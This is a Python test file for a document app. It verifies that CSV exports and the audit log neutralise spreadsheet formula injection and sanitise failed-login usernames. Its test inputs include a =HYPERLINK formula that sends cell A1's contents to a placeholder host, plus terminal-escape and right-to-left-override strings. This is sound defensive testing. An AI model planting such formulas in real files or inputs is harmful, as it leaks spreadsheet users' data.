"""Every CSV sohoa writes is inert in a spreadsheet: records, audit log and reports.

A cell starting with ``= + - @``, tab or carriage return gets a leading ``'`` (OWASP); a user
name tried at a failed login is stored as one bounded line without control characters.
"""

from __future__ import annotations

import csv
import io
import re

from fastapi.testclient import TestClient

from api.main import create_app
from cli.main import main as cli_main
from core.cells import inert_csv_text
from core.db import Document
from core.db_audit import AuditEntry
from tests.api.test_auth import add_document, make_user, token_for

FORMULAS = ['=HYPERLINK("http://x.invalid/?"&A1,"bấm")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\r=1"]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_inert_csv_text_prefixes_every_formula_start():
    for f in FORMULAS:
        assert inert_csv_text(f).startswith("'"), f
    assert inert_csv_text("Kế hoạch") == "Kế hoạch"
    assert inert_csv_text("a\x00b") == "a\ufffdb"


def test_records_csv_export_neutralises_formulas(settings, ctx):
    make_user(ctx, "quantri", "admin", "tuyet_mat")
    doc = add_document(ctx)
    with ctx.session() as s:
        d = s.get(Document, doc)
        d.fields = {**d.fields, "subject": FORMULAS[0], "issuer": "@cmd", "signer_name": "-x"}
    c = TestClient(create_app(settings, ctx), headers=token_for(ctx, "quantri"))
    r = c.get("/api/batches/lo-a/export", params={"format": "csv"})
    assert r.status_code == 200
    cells = _cells(r.text)
    assert "'" + FORMULAS[0] in cells and "'@cmd" in cells and "'-x" in cells
    assert not [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_failed_login_name_is_stored_safely_and_audit_csv_is_inert(
    settings, ctx, tmp_path, monkeypatch
):
    client = TestClient(create_app(settings, ctx))
    page = client.get("/login")
    token = re.search(r'name="csrf_token" value="([^"]+)"', page.text).group(1)
    tried = '=HYPERLINK("http://x.invalid","a")\x00\x1b[31m\u202e' + "x" * 500
    r = client.post("/login", data={"username": tried, "password": "sai", "csrf_token": token})
    assert r.status_code == 401
    with ctx.session() as s:
        entry = s.query(AuditEntry).filter_by(action="login_failed").one()
        assert len(entry.actor) <= 100
        assert not re.search(r"[\x00-\x1f\x7f\u202e]", entry.actor)
        assert entry.actor.startswith("=HYPERLINK")
    monkeypatch.setattr("cli.main.get_settings", lambda: ctx.settings)
    out = tmp_path / "audit.csv"
    assert cli_main(["audit", "export", "--format", "csv", "--out", str(out)]) == 0
    cells = _cells(out.read_text(encoding="utf-8"))
    assert any(x.startswith("'=HYPERLINK") for x in cells)
    assert not [x for x in cells if x[:1] in ("=", "+", "-", "@", "\t", "\r")]
